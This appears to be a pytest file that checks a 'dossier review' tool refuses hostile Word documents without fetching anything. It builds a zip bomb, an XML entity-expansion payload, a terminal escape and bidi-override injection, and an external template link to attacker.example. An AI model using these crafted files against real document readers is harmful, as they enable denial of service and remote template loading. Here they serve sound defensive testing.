"""Files a review must refuse: each with one clear `error:` line and its exit code, never a traceback,
and nothing fetched."""

from __future__ import annotations

import io
import socket
import zipfile

import pytest

from dossier.cli import main
from helpers import with_member

A = "tests/fixtures/aurora/aurora.yaml"


@pytest.fixture(autouse=True)
def no_network(monkeypatch):
    def refuse(*args, **kwargs):
        raise AssertionError("the review tried to open a network connection")

    monkeypatch.setattr(socket.socket, "connect", refuse)


def run(capsys, path, *more) -> tuple[int, str]:
    code = main(["review", str(path), *more])
    captured = capsys.readouterr()
    assert "Traceback" not in captured.err + captured.out
    return code, captured.err.strip()


def test_not_a_zip(tmp_path, capsys):
    path = tmp_path / "report.docx"
    path.write_text("this is a letter, not a report")
    assert run(capsys, path, "--content", A) == (
        6, f"error: {path}: cannot be read as a Word document: it is not a zip archive")


def test_a_zip_that_is_not_a_word_document(tmp_path, capsys):
    path = tmp_path / "report.docx"
    with zipfile.ZipFile(path, "w") as archive:
        archive.writestr("hello.txt", "hello")
    assert run(capsys, path) == (6, f"error: {path}: cannot be read as a Word document: it has no word/document.xml")


def test_a_zip_bomb_is_refused_before_it_is_unpacked(tmp_path, capsys):
    path = tmp_path / "bomb.docx"
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("word/document.xml", b"<a>" + b" " * (200 * 1024 * 1024) + b"</a>")
    assert path.stat().st_size < 1_000_000
    code, err = run(capsys, path)
    assert code == 6 and "would unpack to 209,715,207 bytes" in err


def test_a_huge_document(tmp_path, capsys, aurora_report):
    paragraphs = b"<w:p><w:r><w:t>x</w:t></w:r></w:p>" * 20_001

    def swell(xml: bytes) -> bytes:
        return xml.replace(b"<w:body>", b"<w:body>" + paragraphs, 1)

    path = tmp_path / "huge.docx"
    path.write_bytes(with_member(aurora_report, "word/document.xml", swell))
    code, err = run(capsys, path, "--content", A)
    assert code == 6
    assert "too big to review: 20,0" in err and "a report this tool reviews has at most 20,000" in err


def test_external_relationships_are_refused_and_never_fetched(tmp_path, capsys, aurora_report):
    rels = (b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
            b'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
            b'<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/'
            b'attachedTemplate" Target="http://attacker.example/t.dotm" TargetMode="External"/></Relationships>')
    data = with_member(aurora_report, "word/settings.xml", lambda xml: xml)
    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(data)) as source, zipfile.ZipFile(out, "w") as target:
        for item in source.infolist():
            target.writestr(item, source.read(item))
        target.writestr("word/_rels/settings.xml.rels", rels)
    path = tmp_path / "linked.docx"
    path.write_bytes(out.getvalue())
    code, err = run(capsys, path, "--content", A)
    assert code == 6
    assert "links to files outside itself, which are never opened: attachedTemplate → " \
           "'http://attacker.example/t.dotm' (word/_rels/settings.xml.rels)" in err


def test_entities_are_not_expanded(tmp_path, capsys, aurora_report):
    laughs = (b'<?xml version="1.0"?><!DOCTYPE lol [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;">]>'
              b'<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main">'
              b'<w:body><w:p><w:r><w:t>&b;</w:t></w:r></w:p></w:body></w:document>')
    path = tmp_path / "laughs.docx"
    path.write_bytes(with_member(aurora_report, "word/document.xml", lambda xml: laughs))
    code = main(["review", str(path), "--content", A])
    out = capsys.readouterr().out
    assert code == 10 and "aaaaaaaaaa" not in out  # read with the entities left unexpanded: a report with no text


def test_a_damaged_file(tmp_path, capsys, aurora_report):
    path = tmp_path / "cut.docx"
    path.write_bytes(aurora_report[: len(aurora_report) // 2])
    code, err = run(capsys, path, "--content", A)
    assert code == 6 and err.startswith(f"error: {path}: cannot be read as a Word document:")


def test_a_word_document_dossier_did_not_make(tmp_path, capsys):
    import docx

    path = tmp_path / "letter.docx"
    letter = docx.Document()
    letter.add_paragraph("Dear editor,")
    letter.save(path)
    expected = (f"error: {path}: not a report made by dossier: its document properties name no profile "
                "(identifier ''); if it is one, name its content file with --content")
    assert run(capsys, path) == (6, expected)


def test_a_missing_file_and_a_folder(tmp_path, capsys):
    missing = tmp_path / "nothing.docx"
    assert run(capsys, missing) == (2, f"error: {missing}: No such file or directory")
    assert run(capsys, tmp_path) == (
        2, f"error: {tmp_path}: is a folder, not a regular file; expected a Word document (.docx)")


def test_text_from_the_file_cannot_drive_the_terminal(tmp_path, capsys, aurora_report, editor):
    """A comment's author and text are printed with control characters and bidi overrides escaped."""
    edited = editor(aurora_report)
    # XML 1.0 allows C1 controls (U+009B is a terminal's CSI) and bidi overrides, not ESC itself.
    edited.comment("Aurora Lab", "fine\x9b2J\u202eevil")
    path = tmp_path / "edited.docx"
    path.write_bytes(edited.bytes())
    assert main(["review", str(path), "--content", A]) == 0
    out = capsys.readouterr().out
    assert "\x9b" not in out and "\u202e" not in out
    assert "fine\\u009b2J\\u202eevil" in out


def test_too_many_comments_are_refused(tmp_path, capsys, aurora_report, editor):
    from dossier.review.reading import MAX_COMMENTS

    comments = b"".join(b'<w:comment w:id="%d" w:author="x"><w:p><w:r><w:t>c</w:t></w:r></w:p></w:comment>' % i
                        for i in range(MAX_COMMENTS + 1))
    xml = (b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?><w:comments xmlns:w="'
           b'http://schemas.openxmlformats.org/wordprocessingml/2006/main">' + comments + b"</w:comments>")
    commented = editor(aurora_report)
    commented.comment("Aurora Lab", "one")  # makes the comments part, then filled with too many
    path = tmp_path / "report.docx"
    path.write_bytes(with_member(commented.bytes(), "word/comments.xml", lambda _xml: xml))
    code, err = run(capsys, path, "--content", A)
    assert code == 6 and f"too big to review: {MAX_COMMENTS + 1:,} comments" in err
